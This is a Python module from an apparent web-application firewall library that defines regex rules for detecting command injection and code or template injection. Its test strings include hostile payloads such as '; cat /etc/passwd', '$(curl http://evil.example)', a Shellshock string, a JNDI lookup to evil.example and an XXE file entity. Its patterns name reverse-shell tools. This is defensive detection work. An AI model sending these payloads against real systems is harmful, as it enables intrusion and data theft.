"""Command and code injection: shell commands, server-side code, templates, and loggers that look things up."""

from wardgate.match.signals.shape import ContentRule, Side

_COMMANDS = (
    "cat|ls|id|whoami|uname|wget|curl|ncat|netcat|nc|bash|zsh|ksh|csh|dash|sh|ping|nslookup|dig|python[23]?|perl|"
    "powershell|pwsh|cmd|rm|chmod|chown|echo|printf|sleep|ifconfig|ipconfig|netstat|tftp|ftp|telnet|tac|sed|awk|grep|"
    "printenv|mkfifo|base64|xxd|certutil|mshta|rundll32|regsvr32|wmic|systeminfo|tasklist|getent|passwd|busybox"
)
_WORDS = (
    "more|less|type|set|who|head|tail|host|find|which|reg|ver|net|dir|env|kill|touch|file|ruby|php|node|nl|ps|tee|cp|"
    "mv|hostname"
)
COMMAND_INJECTION = ContentRule(
    name="command-injection",
    title="Command injection",
    reference="CWE-78; OWASP CRS 932",
    # Not in headers: `; id;` is Indonesian in a user agent.
    sides=frozenset((Side.PATH, Side.QUERY, Side.BODY)),
    patterns=(
        rf"(?:[;|&\n\r`]|\$\()\s*(?:sudo\s+|[\w./\\$@?*'\"-]{{0,24}}/)?['\"\\]?(?:{_COMMANDS})(?:\.exe)?['\"]?(?:\s*(?:[;|&`)<>\n]|$)|\s+[-/\w.$~'\"\\*%:{{]|\$\{{?IFS|%20)",
        rf"(?:[;|&\n\r`]|\$\()\s*(?:{_WORDS})(?:\.exe)?(?:\s+[-/.$~*\\]|\s*[|`;)]\s*(?:$|[;|&`]))",
        r"\$\{?IFS\b|\{(?:cat|ls|id|wget|curl|nc|bash|sh|ping|echo|rm),",
        r"(?:/usr(?:/local)?)?/s?bin/(?:\w{0,4}sh|cat|id|ls|nc|wget|curl|python[23]?|perl|uname|whoami|ping|echo|rm|sleep|tail|head|chmod|busybox|env)\b",
        r"\b(?:cmd(?:\.exe)?\s*/[ck]|powershell(?:\.exe)?\s+-|(?:invoke-(?:expression|webrequest|restmethod)|start-process|new-object\s+net\.)|iex\s*\()",
        r"\b(?:nc|ncat|netcat)(?:\.exe)?\s+-[a-z]*[elnv]|\bbash\s+-[ic]\b|>\s*/dev/(?:tcp|udp|null)|\bmkfifo\s+/",
    ),
    needs=r"[;|&`$(){}<>\n]|%|/s?bin/|(?i:cmd|powershell|invoke-|start-process|bash -|nc -|ncat)",
    found=(
        "; cat /etc/passwd",
        "x|id",
        "`whoami`",
        "$(curl http://evil.example)",
        "a;sleep 5",
        "127.0.0.1 && ls -la",
        "/bin/bash -c x",
    ),
    passed=(
        "id=5&set=1&type=new",
        "cats; dogs",
        "a=1&find=hotel&sort=asc",
        "salt & pepper",
        "AT&T",
        "R&D; more to come",
        "Windows NT 10.0; Win64; x64",
        "type=a;q=0.9",
    ),
)
CODE_INJECTION = ContentRule(
    name="code-injection",
    title="Code or template injection",
    reference="CWE-94, CWE-917, CWE-1336; OWASP CRS 933, 934 and 944",
    patterns=(
        r"\$\{(?:[^}]{0,60}(?:jndi|lower|upper|env|sys|java|::-|ctx|date|main):?|[^}]{0,40}\d\s*[*+-]\s*\d|[^}]{0,80}\()",
        r"(?:\{\{|\{%|<%=|<%|#\{|%\{|\*\{|@\()[^}%]{0,100}(?:\d\s*[*+-]\s*\d|__|config|self|request|class|\(\)|system|exec|import|getclass|constructor|range\(|#)",
        r"<\?(?:php|=|\s)|<\?$",
        r"\(\s*\)\s*\{\s*[^}]{0,40};\s*\}\s*;",
        r"\b(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|eval|base64_decode|phpinfo|phpversion|call_user_func(?:_array)?|create_function|preg_replace|file_(?:get|put)_contents|fopen|fwrite|include(?:_once)?|require(?:_once)?|unserialize|str_rot13|gzinflate|chr|posix_\w+|var_dump|print_r|ini_set|move_uploaded_file)\(\s*(?:['\"$\w<)/]|\()",
        r"__(?:proto__|class__|globals__|builtins__|import__|mro__|subclasses__|init__|getattr__)|constructor(?:\.|\[['\"]?)(?:prototype|constructor)|\[['\"]?__proto__",
        r"\b(?:java\.lang\.|javax\.(?:naming|script)|runtime\.getruntime|processbuilder|getruntime\(|org\.(?:apache|springframework)\.[a-z]+\.|com\.sun\.|ognl\.|classloader|class\.module\.classloader|freemarker|velocity|java\.(?:io|util|net|runtime|security|beans|nio|rmi)|com\.opensymphony|\w{1,40}transformer\b|instantiatefactory|prototypeclonefactory)\b",
        r"\brequire\s*\(\s*['\"`](?:child_process|fs|net|http|vm|os)\b|\bprocess\.(?:env|binding|mainmodule|exit)|\bglobal\.process|child_process",
        r"\b_\$\$nd_func\$\$_|\bo:\d{1,4}:\"[\w\\]{1,80}\":\d+:\{|\brO0AB[A-Za-z0-9+/]|\bac ed 00 05|\baced0005",
        r"\$_(?:get|post|request|server|cookie|files|session|env)\b|\$globals\b|\bauto_prepend_file|allow_url_include",
        r"<!(?:entity|doctype)\s+[^>]{0,200}(?:system|public|%|\[)",
    ),
    needs=r"[{}()<$%#]|__|(?i:java|runtime|opensymphony|transformer|factory|classloader|child_process|process\.|allow_url|auto_prepend|rO0AB|aced0005|ac ed|constructor|global\.|o:\d)",
    found=(
        "() { :;}; echo vulnerable",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "<?php phpinfo();",
        "a[__proto__][x]=1",
        "eval('x')",
        "java.lang.Runtime",
        "{{config.items()}}",
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>',
    ),
    passed=(
        "/users/{userId}",
        "price in ${currency}",
        '{"a": 1}',
        "system (new)",
        "include=author",
        "class=economy",
        "requires approval",
        "100% {sure}",
    ),
)
